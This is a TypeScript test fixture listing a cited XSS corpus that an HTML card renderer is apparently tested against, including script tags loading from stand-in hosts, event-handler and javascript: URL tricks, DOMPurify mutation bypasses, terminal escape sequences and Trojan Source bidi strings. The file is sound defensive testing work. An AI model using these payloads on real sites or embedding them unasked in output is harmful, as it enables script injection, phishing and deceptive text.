/**
 * The XSS corpus `renderCardHtml` is tested against: each row is a payload and where it comes
 * from. Add a row to add a case. Hosts are `*.example` (RFC 2606); `alert(1)` stands for any
 * script.
 *
 * Sources, as named in `source`:
 * - OWASP: the OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet", by vector name;
 * - PortSwigger: PortSwigger Web Security Academy, "Cross-site scripting (XSS) cheat sheet";
 * - html5sec: the HTML5 Security Cheatsheet (html5sec.org), by vector number;
 * - DOMPurify: published mutation-XSS bypasses of DOMPurify (cure53/DOMPurify security advisories);
 * - Trojan Source: Boucher and Anderson, "Trojan Source: Invisible Vulnerabilities" (2021,
 *   CVE-2021-42574);
 * - xterm: the xterm control sequences document (ctlseqs) and ECMA-48; OSC 8 is the
 *   "Hyperlinks in terminal emulators" convention; OSC 52, iTerm2's OSC 1337 and kitty's APC
 *   graphics are those terminals' documented sequences;
 * - WHATWG: the HTML and URL standards (parsing rules that payloads lean on).
 *
 * Longer than 300 lines: a cited corpus, one row a payload with its source, grouped by the trick
 * it plays and read top to bottom (STYLE habit 15); split, a reader could no longer see at once
 * which payloads are there and which source each came from.
 */
export interface XssPayload {
  readonly payload: string
  readonly source: string
}

export const xssPayloads: readonly XssPayload[] = [
  // Script and style tags
  { payload: '<script>alert(1)</script>', source: 'OWASP: basic XSS test without filter evasion' },
  { payload: `'';!--"<XSS>=&{()}`, source: 'OWASP: XSS locator (short)' },
  {
    payload: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
    source: 'OWASP: basic XSS test (script src)',
  },
  {
    payload: '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    source: 'OWASP: non-alpha-non-digit XSS',
  },
  { payload: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', source: 'OWASP: extraneous open brackets' },
  { payload: '<SCRIPT SRC=//xss.example/.j>', source: 'OWASP: no closing script tags' },
  { payload: '<script>alert(1)</script', source: 'OWASP: half open HTML/JavaScript XSS vector' },
  {
    payload: '</script><script>alert(1)</script>',
    source: 'PortSwigger: breaking out of a script block',
  },
  {
    payload: "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    source: 'OWASP: STYLE tags with broken-up JavaScript / @import',
  },
  {
    payload:
      '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
    source: 'OWASP: STYLE tag using background-image',
  },
  {
    payload: '</style><script>alert(1)</script>',
    source: 'PortSwigger: breaking out of a style block',
  },
  {
    payload: '<style>*{display:none}.tp-card{color:red}</style>',
    source: 'PortSwigger: dangling markup / CSS injection',
  },
  {
    payload: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
    source: 'OWASP: DIV background-image',
  },
  { payload: '<DIV STYLE="width: expression(alert(\'XSS\'));">', source: 'OWASP: DIV expression' },
  {
    payload: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
    source: 'OWASP: STYLE attribute using a comment to break up expression',
  },
  {
    payload: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    source: 'OWASP: STYLE sheet (LINK)',
  },
  {
    payload: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    source: 'OWASP: META',
  },
  {
    payload:
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    source: 'OWASP: META using data',
  },
  { payload: '<BASE HREF="javascript:alert(\'XSS\');//">', source: 'OWASP: BASE tag' },
  { payload: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', source: 'OWASP: IFRAME' },
  {
    payload: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
    source: 'OWASP: FRAME',
  },
  {
    payload: '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    source: 'OWASP: OBJECT tag',
  },
  {
    payload:
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    source: 'OWASP: EMBED SVG which contains XSS vector',
  },
  { payload: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', source: 'OWASP: TABLE' },
  { payload: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">', source: 'OWASP: TD' },
  { payload: "<BODY ONLOAD=alert('XSS')>", source: 'OWASP: BODY tag' },
  { payload: '<BGSOUND SRC="javascript:alert(\'XSS\');">', source: 'OWASP: BGSOUND' },
  // Event attributes
  { payload: '<img src=x onerror=alert(1)>', source: 'PortSwigger: onerror' },
  {
    payload: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    source: 'OWASP: on error alert',
  },
  {
    payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    source: 'PortSwigger: onerror with eval(src)',
  },
  { payload: '<svg onload=alert(1)>', source: 'PortSwigger: onload (svg)' },
  { payload: '<body onpageshow=alert(1)>', source: 'PortSwigger: onpageshow' },
  { payload: '<details open ontoggle=alert(1)>', source: 'PortSwigger: ontoggle' },
  { payload: '<input autofocus onfocus=alert(1)>', source: 'PortSwigger: onfocus with autofocus' },
  { payload: '<video><source onerror=alert(1)>', source: 'PortSwigger: onerror (video source)' },
  {
    payload: '<audio src/onerror=alert(1)>',
    source: 'PortSwigger: onerror (audio, slash separator)',
  },
  { payload: '<marquee onstart=alert(1)>XSS</marquee>', source: 'PortSwigger: onstart' },
  {
    payload: '<xss onmouseover=alert(1) style=display:block>test</xss>',
    source: 'PortSwigger: custom tags',
  },
  {
    payload: '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
    source: 'PortSwigger: custom tag with onfocus',
  },
  { payload: '<select autofocus onfocus=alert(1)>', source: 'PortSwigger: onfocus (select)' },
  {
    payload: '<textarea autofocus onfocus=alert(1)>x</textarea>',
    source: 'PortSwigger: onfocus (textarea)',
  },
  {
    payload: '"><img src=x onerror=alert(1)>',
    source: 'PortSwigger: breaking out of an attribute',
  },
  {
    payload: "' onmouseover='alert(1)",
    source: 'PortSwigger: injecting an event handler (single quotes)',
  },
  {
    payload: '" autofocus onfocus="alert(1)" x="',
    source: 'PortSwigger: injecting an event handler (double quotes)',
  },
  { payload: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', source: 'OWASP: malformed IMG tags' },
  {
    payload: '<a onmouseover="alert(document.cookie)">xxs link</a>',
    source: 'OWASP: malformed A tags',
  },
  {
    payload: '<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>',
    source: 'PortSwigger: HTML-encoded event handler',
  },
  {
    payload: '<form><button formaction=javascript:alert(1)>X</button></form>',
    source: 'PortSwigger: formaction',
  },
  { payload: '<isindex type=image src=1 onerror=alert(1)>', source: 'html5sec: isindex' },
  {
    payload: '<div draggable="true" ondragstart="alert(1)">drag me</div>',
    source: 'PortSwigger: ondragstart',
  },
  { payload: '<object data="javascript:alert(1)">', source: 'html5sec: object data' },
  // javascript:, data: and vbscript: URLs with case, whitespace and entity tricks
  { payload: 'javascript:alert(1)', source: 'OWASP: image XSS using the JavaScript directive' },
  { payload: 'JaVaScRiPt:alert(1)', source: 'OWASP: case insensitive XSS attack vector' },
  {
    payload: '  javascript:alert(1)',
    source: 'OWASP: spaces and meta chars before the JavaScript',
  },
  { payload: 'java\tscript:alert(1)', source: 'OWASP: embedded tab' },
  { payload: 'java&#x09;script:alert(1)', source: 'OWASP: embedded encoded tab' },
  { payload: 'java&#x0A;script:alert(1)', source: 'OWASP: embedded newline to break up XSS' },
  { payload: 'java\u0000script:alert(1)', source: 'OWASP: null breaks up JavaScript directive' },
  {
    payload:
      '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;',
    source: 'OWASP: decimal HTML character references',
  },
  {
    payload:
      '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041',
    source: 'OWASP: decimal HTML character references without trailing semicolons',
  },
  {
    payload:
      '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29',
    source: 'OWASP: hexadecimal HTML character references without trailing semicolons',
  },
  {
    payload: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    source: 'OWASP: grave accent obfuscation',
  },
  {
    payload: '<a href="javascript:alert(1)">x</a>',
    source: 'PortSwigger: javascript: URL in href',
  },
  {
    payload: '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>',
    source: 'OWASP: spaces and meta chars before the JavaScript in images',
  },
  {
    payload: '<a href="javas&#99;ript:alert(1)">x</a>',
    source: 'PortSwigger: HTML entities in a javascript: URL',
  },
  {
    payload: '<a href="javascript&colon;alert(1)">x</a>',
    source: 'PortSwigger: named entity &colon;',
  },
  {
    payload: '<a href="&#x6a;avascript:alert(1)">x</a>',
    source: 'PortSwigger: hex entity in the scheme',
  },
  {
    payload: 'javascript://https://example.com/%0aalert(1)',
    source: 'PortSwigger: javascript: URL posing as an https URL (comment and newline)',
  },
  { payload: 'javascript:https://example.com', source: 'PortSwigger: scheme-looking label' },
  {
    payload: '\u0001javascript:alert(1)',
    source: 'WHATWG URL: leading C0 controls are stripped by the URL parser',
  },
  {
    payload: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    source: 'OWASP: data URL (base64)',
  },
  { payload: 'data:text/html,<script>alert(1)</script>', source: 'PortSwigger: data URL' },
  {
    payload: 'DATA:text/html,<script>alert(1)</script>',
    source: 'PortSwigger: data URL (upper case scheme)',
  },
  { payload: 'data:image/svg+xml,<svg onload=alert(1)>', source: 'PortSwigger: SVG data URL' },
  { payload: 'vbscript:msgbox("XSS")', source: 'OWASP: VBscript in an image' },
  { payload: 'VbScRiPt:msgbox(1)', source: 'OWASP: VBscript (mixed case)' },
  {
    payload: '<IMG SRC="livescript:[code]">',
    source: 'OWASP: Livescript (older versions of Netscape only)',
  },
  {
    payload: 'https://example.com/"><script>alert(1)</script>',
    source: 'PortSwigger: breaking out of an href value',
  },
  {
    payload: "https://example.com/?q=<img src=x onerror=alert(1)>&r='x'",
    source: 'PortSwigger: reflected query parameter',
  },
  {
    payload: 'https://example.com/a b"onmouseover="alert(1)',
    source: 'PortSwigger: attribute injection through a URL',
  },
  {
    payload: 'https://good.example@evil.example/login',
    source: 'WHATWG URL: userinfo before the host (phishing)',
  },
  {
    payload: 'http://good.example\\@evil.example/',
    source: 'WHATWG URL: a backslash is a slash in special URLs',
  },
  {
    payload: 'https://\u0430pple.example/',
    source: 'Unicode TR #39: confusable host name (Cyrillic a)',
  },
  { payload: '//evil.example/x.js', source: 'OWASP: protocol resolution bypass' },
  {
    payload: 'https://example.com/#javascript:alert(1)',
    source: 'PortSwigger: javascript: in a fragment',
  },
  {
    payload: '<a href="https://example.com" onclick="alert(1)">x</a>',
    source: 'PortSwigger: onclick beside a safe href',
  },
  // SVG and MathML
  { payload: '<svg><script>alert(1)</script></svg>', source: 'PortSwigger: script inside SVG' },
  {
    payload: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    source: 'PortSwigger: onbegin (SVG animate)',
  },
  {
    payload: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    source: 'PortSwigger: SVG xlink:href',
  },
  {
    payload:
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    source: 'PortSwigger: SVG use with a data URL',
  },
  {
    payload:
      '<svg><set attributeName="href" to="javascript:alert(1)" /><a><text y="20">x</text></a></svg>',
    source: 'PortSwigger: SVG set (animation of href)',
  },
  {
    payload:
      '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    source: 'PortSwigger: iframe srcdoc in SVG foreignObject',
  },
  {
    payload: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    source: 'DOMPurify: 2.0.0 mutation XSS bypass (namespace confusion)',
  },
  {
    payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    source: 'DOMPurify: 2.0.17 mutation XSS bypass (MathML mglyph)',
  },
  {
    payload:
      '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click<mtext>x</mtext></maction></math>',
    source: 'html5sec: MathML maction',
  },
  {
    payload: '<math href="javascript:alert(1)">CLICKME</math>',
    source: 'PortSwigger: MathML href',
  },
  {
    payload: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    source: 'html5sec: CDATA in SVG',
  },
  {
    payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    source: 'DOMPurify: noscript mutation XSS',
  },
  // Comment and CDATA breakouts, raw-text and escapable elements
  {
    payload: '<!--<img src="--><img src=x onerror=alert(1)//">',
    source: 'html5sec: comment breakout',
  },
  {
    payload: '--><script>alert(1)</script>',
    source: 'PortSwigger: breaking out of an HTML comment',
  },
  { payload: '<![CDATA[<script>alert(1)</script>]]>', source: 'html5sec: CDATA section in HTML' },
  {
    payload: ']]><script>alert(1)</script><![CDATA[',
    source: 'PortSwigger: breaking out of CDATA',
  },
  {
    payload: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    source: 'OWASP: downlevel-hidden block',
  },
  {
    payload: '<?xml version="1.0"?><script>alert(1)</script>',
    source: 'html5sec: processing instruction',
  },
  {
    payload: '<!DOCTYPE html><html><body onload=alert(1)>',
    source: 'WHATWG HTML: a document inside a fragment',
  },
  {
    payload: '<template><script>alert(1)</script></template>',
    source: 'PortSwigger: template content',
  },
  {
    payload: '<plaintext><script>alert(1)</script>',
    source: 'WHATWG HTML: plaintext swallows the rest of the document',
  },
  { payload: '<xmp><img src=x onerror=alert(1)></xmp>', source: 'html5sec: xmp raw text' },
  {
    payload: '<textarea></textarea><script>alert(1)</script>',
    source: 'PortSwigger: breaking out of a textarea',
  },
  {
    payload: '<title></title><script>alert(1)</script>',
    source: 'PortSwigger: breaking out of a title',
  },
  { payload: '<noembed><img src=x onerror=alert(1)></noembed>', source: 'html5sec: noembed' },
  {
    payload:
      '</code></pre></td></tr></tbody></table></section></div></article><script>alert(1)</script>',
    source: "WHATWG HTML: closing the renderer's own elements",
  },
  {
    payload: '<table><tr><td><img src=x onerror=alert(1)></td></tr></table>',
    source: 'WHATWG HTML: foster parenting in tables',
  },
  // Entity and encoding tricks
  {
    payload: '&lt;script&gt;alert(1)&lt;/script&gt;',
    source: 'OWASP XSS Prevention Cheat Sheet: output encoding (pre-escaped text stays literal)',
  },
  { payload: '&amp;lt;img src=x onerror=alert(1)&amp;gt;', source: 'OWASP: double encoding' },
  {
    payload: '&#60;script&#62;alert(1)&#60;/script&#62;',
    source: 'OWASP: decimal HTML character references of < and >',
  },
  {
    payload: '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
    source: 'OWASP: hexadecimal HTML character references of < and >',
  },
  {
    payload: '&lt&gt&quot&amp&nbsp',
    source: 'WHATWG HTML: legacy named references without semicolons',
  },
  { payload: '%3Cscript%3Ealert(1)%3C/script%3E', source: 'OWASP: URL encoding' },
  {
    payload: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    source: 'PortSwigger: JavaScript Unicode escapes as text',
  },
  {
    payload: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    source: 'Unicode: fullwidth brackets (NFKC folds them to < and >)',
  },
  { payload: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', source: 'OWASP: UTF-7 encoding' },
  {
    payload: '\u00c0\u00bcscript\u00c0\u00bealert(1)',
    source: 'WHATWG Encoding: overlong UTF-8 bytes read as Latin-1',
  },
  {
    payload: "{{constructor.constructor('alert(1)')()}}",
    source: 'PortSwigger: AngularJS sandbox escape (template injection)',
  },
  { payload: '${alert(1)}`<script>`', source: 'PortSwigger: template literal injection' },
  { payload: '"\'><&', source: 'OWASP: XSS locator (metacharacters)' },
  { payload: '\u0000<script>alert(1)</script>', source: 'WHATWG HTML: NUL in the input stream' },
  { payload: '<scr\u0000ipt>alert(1)</scr\u0000ipt>', source: 'OWASP: null breaks up a tag name' },
  {
    payload: '\u2028\u2029<script>alert(1)</script>',
    source: 'PortSwigger: line and paragraph separators',
  },
  { payload: '\ud800<script>alert(1)</script>\udfff', source: 'WHATWG: lone surrogates' },
  { payload: '\ufeff<script>alert(1)</script>', source: 'WHATWG HTML: byte order mark' },
  // ANSI escape sequences: OSC 8 hyperlinks, other OSC, CSI, DCS, APC, C1
  {
    payload: '\u001b]8;;javascript:alert(1)\u001b\\click me\u001b]8;;\u001b\\',
    source: 'xterm: OSC 8 hyperlink to javascript: (ST terminator)',
  },
  {
    payload: '\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007',
    source: 'xterm: OSC 8 hyperlink to javascript: (BEL terminator)',
  },
  {
    payload: '\u001b]8;id=1;https://evil.example/\u0007https://good.example/\u001b]8;;\u0007',
    source: 'xterm: OSC 8 hyperlink whose text shows another URL',
  },
  {
    payload: '\u001b]8;;data:text/html,<script>alert(1)</script>\u0007x\u001b]8;;\u0007',
    source: 'xterm: OSC 8 hyperlink to a data: URL',
  },
  {
    payload: '\u001b]8;;https://example.com/"onmouseover="alert(1)\u0007x\u001b]8;;\u0007',
    source: 'xterm: OSC 8 hyperlink with an attribute breakout',
  },
  { payload: '\u001b]8;;https://example.com', source: 'xterm: unterminated OSC 8' },
  { payload: '\u001b]0;<script>alert(1)</script>\u0007', source: 'xterm: OSC 0 window title' },
  {
    payload: '\u001b]52;c;PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\u0007',
    source: 'xterm: OSC 52 clipboard write',
  },
  {
    payload: '\u001b]1337;File=inline=1:PHNjcmlwdD4=\u0007',
    source: "xterm: iTerm2's OSC 1337 inline file",
  },
  {
    payload: '\u001b_Gf=100,a=T;PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\u001b\\',
    source: "xterm: kitty's APC graphics protocol",
  },
  { payload: '\u001bP+q544e\u001b\\', source: 'xterm: DCS request (XTGETTCAP)' },
  {
    payload: '\u001b[31m<script>alert(1)</script>\u001b[0m',
    source: 'xterm: SGR colour around markup',
  },
  {
    payload: '\u001b[38;2;255;0;0m<img src=x onerror=alert(1)>\u001b[0m',
    source: 'xterm: SGR RGB colour around markup',
  },
  { payload: '\u001b[2J\u001b[Hall clear', source: 'xterm: CSI erase display and cursor home' },
  {
    payload: 'real output\n\u001b[1A\u001b[2Kfake line',
    source: 'xterm: CSI cursor up and erase line, hiding output',
  },
  {
    payload: '\u001b[?1049h\u001b[?25lhidden',
    source: 'xterm: private modes (alternate screen, hidden cursor)',
  },
  { payload: '\u001b[8m<script>secret</script>\u001b[28m', source: 'xterm: SGR 8 concealed text' },
  {
    payload: '\u001b[30;40mblack on black\u001b[0m',
    source: 'xterm: invisible text (same colours)',
  },
  {
    payload: '\u009b31m\u009d8;;javascript:alert(1)\u009cC1 link\u009d8;;\u009c',
    source: 'xterm: 8-bit C1 CSI, OSC and ST',
  },
  { payload: '\u001b[', source: 'xterm: truncated CSI' },
  {
    payload: '\u001b(0lqqk\u001b(B',
    source: 'xterm: character set designation (DEC line drawing)',
  },
  // Unicode and bidirectional tricks
  {
    payload: 'access_level != "user\u202e \u2066// Check if admin\u2069 \u2066"',
    source: 'Trojan Source: stretched string',
  },
  {
    payload: '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */',
    source: 'Trojan Source: commenting-out',
  },
  {
    payload: 'invoice\u202egnp.exe',
    source: 'Trojan Source: right-to-left override in a file name',
  },
  { payload: 'rm -rf /\u200btmp/x\u2060y', source: 'Trojan Source: zero-width characters' },
  {
    payload: '\u061c\u200e\u200f<b>mark</b>',
    source: 'Trojan Source: Arabic letter mark and LRM/RLM',
  },
  {
    payload: 'e\u0301\u0338<img src=x onerror=alert(1)>',
    source: 'Unicode: combining marks over markup',
  },
]
